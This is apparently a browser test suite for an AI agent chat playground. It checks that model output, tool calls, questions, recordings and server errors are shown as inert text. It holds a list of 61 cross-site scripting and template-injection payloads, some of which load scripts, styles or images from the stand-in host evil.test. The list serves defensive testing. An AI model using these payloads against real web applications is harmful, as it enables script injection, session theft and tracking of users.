"""Text of a model, a tool or a server stays text, wherever it is shown."""

import html
import json
import re
from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.async_api import Browser, Route, expect
from tests.browser.playground import Playground, expect_text, open_playground
from tests.support.server import replaying, running_server

pytestmark = [pytest.mark.anyio, pytest.mark.browser]

PAYLOADS = [
    "<script>pwned=1</script>",
    "<script src=//evil.test/x.js></script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "<script type=module>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "</pre></code></div><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "</style><script>pwned=1</script>",
    "<!--<img src=x onerror=pwned=1>-->",
    "--><img src=x onerror=pwned=1>",
    "<img src=x onerror=pwned=1>",
    "<img src='x' onerror='pwned=1'/>",
    '"><img src=x onerror=pwned=1>',
    "'><img src=x onerror=pwned=1>",
    "<img src=//evil.test/track.png>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><a href=javascript:pwned=1><text>x</text></a></svg>",
    "<math><mtext></table><img src=x onerror=pwned=1>",
    "<iframe src=javascript:pwned=1></iframe>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<object data=javascript:pwned=1></object>",
    "<embed src=//evil.test/x.swf>",
    "<body onload=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>",
    "<input autofocus onfocus=pwned=1>",
    "<video><source onerror=pwned=1></video>",
    "<audio src=x onerror=pwned=1></audio>",
    "<marquee onstart=pwned=1>x</marquee>",
    "<a href=javascript:pwned=1>click</a>",
    "<form action=//evil.test><button>x</button></form>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<template><script>pwned=1</script></template>",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    (
        "[x](javascript:pwned=1) ![x](//evil.test/x.png) `${pwned=1}` "
        "{{constructor.constructor('pwned=1')()}}"
    ),
    "\u202e<img src=x onerror=pwned=1>\u0000\u2028",
    "javascript:/*--></title></style></textarea></script><svg/onload='pwned=1'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<math><mi//xlink:href='data:x,<script>pwned=1</script>'>",
    (
        "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>"
        "</foreignObject></svg>"
    ),
    "<svg><use href='data:image/svg+xml,<svg id=x><script>pwned=1</script></svg>#x'/></svg>",
    "<svg><set attributeName=onload to=pwned=1>",
    "<xmp><img src=x onerror=pwned=1></xmp>",
    "<plaintext><img src=x onerror=pwned=1>",
    "<select autofocus onfocus=pwned=1><option>x</select>",
    "<p style='animation: rise 1s' onanimationstart=pwned=1>x</p>",
    "<dialog open onclose=pwned=1><form method=dialog><button>x</button></form></dialog>",
    "<div popover id=x ontoggle=pwned=1></div><button popovertarget=x>x</button>",
    "<img srcset='//evil.test/x.png 2x' onerror=pwned=1>",
    "<picture><source srcset=//evil.test/x.png><img></picture>",
    "<link rel=prefetch href=//evil.test/x>",
    "<link rel=modulepreload href=//evil.test/x.js>",
    "<portal src=//evil.test></portal><fencedframe src=//evil.test>",
    "<frameset onload=pwned=1><frame src=//evil.test>",
    "<isindex action=javascript:pwned=1><keygen autofocus onfocus=pwned=1>",
    "${pwned=1} #{pwned=1} <%= pwned=1 %> {% pwned=1 %} __proto__ constructor",
]
assert len(PAYLOADS) == 61
GROUPS = ["\n".join(PAYLOADS[at::10]) for at in range(10)]

HARMLESS = {
    "article", "bdi", "button", "code", "details", "div", "header", "li", "p", "pre",
    "section", "span", "strong", "summary", "svg", "time", "use",
}  # fmt: skip


@pytest.fixture(scope="module")
async def instructed_url() -> AsyncGenerator[str]:
    async with running_server("tests.support.served_agents:echoing") as server:
        yield server.url


FORMS = {"fieldset", "form", "input", "label", "legend", "textarea"}


async def assert_only_text(
    playground: Playground, harmless: frozenset[str] = frozenset(HARMLESS)
) -> None:
    """Check that nothing ran and no element was made; the tab checks that nothing was requested."""
    page = playground.page
    await expect(page.locator(".text[aria-busy]")).to_have_count(0)
    # a dialog may be before it
    await page.evaluate("document.querySelector('[data-panel=waterfall]').click()")
    await page.evaluate(
        """async () => {
            const lines = document.querySelectorAll('#events details, #record-list details');
            for (const line of lines) line.open = true;
            await new Promise(resolve => setTimeout(resolve));  // their toggle events
        }"""
    )
    made = await page.evaluate(
        "[...document.querySelectorAll('#transcript *, #plan-list *, #events *, #record-list *,"
        " #confirm-question *, #bars *, #bar-details *')]"
        ".map(e => e.localName)"
    )
    assert set(made) <= harmless
    assert await page.evaluate("typeof globalThis.pwned") == "undefined"


def letters(text: str) -> str:
    """Text without its marks, of which Markdown takes some away."""
    return re.sub("[^A-Za-z0-9]", "", html.unescape(text))


def visible(text: str) -> str:
    """Text as the page holds it: NUL cannot be in a document."""
    return text.replace("\u0000", "")


def written_out(text: str) -> str:
    """Text that a person decides on, as the page shows it."""
    for character in "\u202e\u0000\u2028":
        text = text.replace(character, f"\\u{ord(character):04x}")
    return text


async def test_what_a_model_says_and_thinks_is_text(browser: Browser, instructed_url: str) -> None:
    everything = "\n".join(PAYLOADS)
    async with open_playground(browser, instructed_url) as playground:
        await playground.say(json.dumps({"say": everything, "think": everything}))
        assert [letters(each) for each in await playground.answers()] == [letters(everything)]
        reasoning = playground.page.locator(".reasoning-text")
        assert await reasoning.text_content() == everything
        await playground.page.get_by_role("button", name="History").click()
        await expect(playground.page.locator("#record-list .line")).to_have_count(3)
        await assert_only_text(playground)
        await playground.page.reload()
        await expect_text(playground, PAYLOADS[0])
        assert [letters(each) for each in await playground.answers()] == [letters(everything)]
        await assert_only_text(playground)


async def test_names_arguments_and_results_of_tools_are_text(
    browser: Browser, instructed_url: str
) -> None:
    calls = [[payload, json.dumps({"x": payload})] for payload in PAYLOADS]
    calls += [["echo", json.dumps({"text": payload})] for payload in PAYLOADS]
    async with open_playground(browser, instructed_url) as playground:
        await playground.say(json.dumps({"calls": calls}))
        await expect_text(playground, "Done.")
        cards = await playground.page.locator(".tool").all_text_contents()
        echoed = [card for card in cards if card.startswith("echo")]
        assert len(echoed) == len(PAYLOADS)
        for card, payload in zip(echoed, PAYLOADS, strict=True):
            assert payload in card
        await assert_only_text(playground)


async def test_a_question_is_text_and_a_colour_is_a_listed_word(
    browser: Browser, instructed_url: str
) -> None:
    async with open_playground(browser, instructed_url) as playground:
        question = "\n".join(PAYLOADS)
        calls = [["ask-user-to-confirm", json.dumps({"question": question})]]
        calls += [["change-background-color", json.dumps({"color": each})] for each in PAYLOADS]
        before = await playground.background()
        await playground.write(json.dumps({"calls": calls}))
        dialog = playground.page.get_by_role("dialog")
        await expect(dialog).to_be_visible()
        assert await dialog.locator("#confirm-question").text_content() == written_out(question)
        await assert_only_text(playground)
        await dialog.get_by_role("button", name="Decline").click()
        await expect_text(playground, "Done.")
        assert await playground.background() == before
        results = playground.posts[1]["messages"]
        assert [result["content"] for result in results if not result.get("isError")] == [
            "declined"
        ]
        await assert_only_text(playground)


async def test_what_people_are_asked_is_text(browser: Browser, instructed_url: str) -> None:
    """Names, arguments, reasons, questions, options and answers of calls that wait for a person."""
    calls: list[dict[str, Any]] = []
    for payload in PAYLOADS:
        option = {"label": payload, "description": payload}
        questions = {"questions": [{"question": payload, "options": [option, option]}]}
        arguments = json.dumps({payload: payload})
        calls += [
            {"kind": "approval", "name": payload, "arguments": arguments, "reason": payload},
            {"kind": "question", "name": "ask_user", "arguments": json.dumps(questions)},
            {"kind": "tool_result", "name": payload, "arguments": payload},
        ]
    owed = [{"id": f"call_{at}", **call} for at, call in enumerate(calls)]
    async with open_playground(browser, instructed_url) as playground:
        page = playground.page
        await _answer_with(playground, [{"type": "owed", "toolCalls": owed}])
        await playground.say("hi")
        await expect(page.locator(".tool")).to_have_count(len(calls))
        await assert_only_text(playground, frozenset(HARMLESS | FORMS))
        texts = await page.locator(".option bdi").all_text_contents()
        assert texts == [
            written_out(each)
            for payload in PAYLOADS
            for each in (payload, payload, "None of these")
        ]
        reasons = await page.locator(".tool .why").all_text_contents()
        assert reasons == [written_out(payload) for payload in PAYLOADS]
        names = await page.locator(".tool-name").all_text_contents()
        assert names[::3] == names[2::3] == [written_out(payload) for payload in PAYLOADS]


async def test_parts_and_all_that_is_beside_the_words_are_text(
    browser: Browser, instructed_url: str
) -> None:
    parts: list[dict[str, Any]] = [{"type": "text", "text": payload} for payload in PAYLOADS]
    parts += [{"type": "data", "data": {payload: payload}} for payload in PAYLOADS]
    parts += [
        {"type": "file", "name": each, "mediaType": "text/plain", "data": "eA=="}
        for each in PAYLOADS[::12]
    ]
    body = {
        "conversationId": "parts",
        "messages": [{"role": "user", "id": PAYLOADS[11], "content": parts}],
        "structuredData": dict.fromkeys(PAYLOADS, PAYLOADS[0]),
        "intent": PAYLOADS[0],
        "constraints": PAYLOADS[:10],
        "instructions": PAYLOADS[11],
    }
    async with httpx.AsyncClient(base_url=instructed_url) as client:
        answer = await client.post("/send-message", json=body)
        assert answer.status_code == 200, answer.text
    async with open_playground(browser, instructed_url) as playground:
        await playground.open("#conversation=parts")
        await playground.page.reload()
        await expect_text(playground, "Done.")
        (words,) = await playground.questions()
        for payload in PAYLOADS:
            assert visible(payload) in visible(words)
        await playground.page.get_by_role("button", name="History").click()
        await expect(playground.page.locator("#record-list .line")).to_have_count(3)
        # the list of the files
        await assert_only_text(playground, frozenset(HARMLESS | {"ul"}))


async def test_a_recording_that_lies_is_shown_as_text(browser: Browser, tmp_path: Path) -> None:
    frames = [
        {"at": at, "id": f"run.1-{at}", "data": json.dumps(event)}
        for at, event in enumerate(
            event for payload in PAYLOADS for event in _events_of(payload)[:-2]
        )
    ]
    request = {
        "method": "POST",
        "path": "/send-message",
        "headers": {},
        "body": {"messages": [{"role": "user", "content": PAYLOADS[0]}]},
    }
    exchange = {
        "at": 0,
        "request": request,
        "response": {
            "status": 200,
            "headers": {"content-type": "text/event-stream", "x-run-id": "run"},
            "body": None,
        },
        "frames": [*frames, {"at": len(frames), "id": "", "data": "[DONE]"}],
        "cuts": [],
    }  # fmt: skip
    recording = {
        "format": "passback-run",
        "version": 1,
        "startedAt": "2025-01-31T18:05:00.000Z",
        "exchanges": [exchange],
    }
    file = tmp_path / "run.json"
    file.write_text(json.dumps(recording))
    async with (
        replaying(file, "--speed", "0") as url,
        open_playground(browser, url) as playground,
    ):
        await playground.say("hi")
        await expect_text(playground, PAYLOADS[-2])
        await expect(playground.page.locator(".tool")).to_have_count(2 * len(PAYLOADS))
        await assert_only_text(playground)


async def test_a_server_that_lies_is_shown_as_text(browser: Browser, instructed_url: str) -> None:
    """Every field of every event, the codes of errors included, and of an error's body."""
    async with open_playground(browser, instructed_url) as playground:
        for payload in GROUPS:
            await _answer_with(playground, _events_of(payload))
            await playground.say("hi")
            problem = playground.page.get_by_role("alert")
            await expect(problem).to_have_count(1)
            assert visible(payload) in visible(await problem.text_content() or "")
        await assert_only_text(playground)


async def test_an_error_that_lies_is_shown_as_text(browser: Browser, instructed_url: str) -> None:
    async with open_playground(browser, instructed_url) as playground:
        for payload in GROUPS:
            body = json.dumps({"code": payload, "message": payload, "request_id": payload})
            await _fulfil(playground, status=422, content_type="application/json", body=body)
            await playground.say("hi")
            problem = playground.page.get_by_role("alert")
            await expect(problem).to_have_count(1)
            assert payload in (await problem.text_content() or "")
            # which stays after a reload
            await playground.page.reload()
            await expect(problem).to_have_count(1)
            assert payload in (await problem.text_content() or "")
            await problem.get_by_role("button", name="Throw it away").click()
        await assert_only_text(playground)


def _events_of(payload: str) -> list[dict[str, Any]]:
    return [
        {"type": payload, payload: payload},
        {"type": "message", "messageId": payload},
        {"type": "reasoning", "delta": payload},
        {"type": "text", "content": payload},
        {"type": "tool-call-start", "toolCallId": payload, "toolCallName": payload},
        {"type": "tool-call-args", "toolCallId": payload, "delta": payload},
        {"type": "tool-call-end", "toolCallId": payload},
        {"type": "tool-result", "toolCallId": payload, "result": payload},
        {"type": "agent-text", "parentToolCallId": payload, "delta": payload},
        {
            "type": "tool-call-start",
            "toolCallId": f"{payload}2",
            "toolCallName": payload,
            "parentToolCallId": payload,
        },
        {"type": "tool-progress", "toolCallId": f"{payload}2", "text": payload},
        {
            "type": "plan",
            "entries": [{"content": payload, "priority": payload, "status": payload}],
        },
        {"type": "interrupt", "id": payload, "reason": payload, "payload": payload},
        {"type": "run-end", "outcome": payload, "reason": payload},
        {"type": "error", "error": payload, "code": payload, "retryable": payload},
    ]


async def _answer_with(playground: Playground, events: list[dict[str, Any]]) -> None:
    frames = "".join(f"id: {each['type']}\ndata: {json.dumps(each)}\n\n" for each in events)
    body = f"{frames}data: [DONE]\n\n"
    named = {"x-conversation-id": "c"}
    await _fulfil(playground, content_type="text/event-stream", headers=named, body=body)


async def _fulfil(playground: Playground, **answer: Any) -> None:
    async def fulfil(route: Route) -> None:
        await route.fulfill(**answer)

    await playground.page.unroute_all()
    await playground.page.route("**/send-message", fulfil)
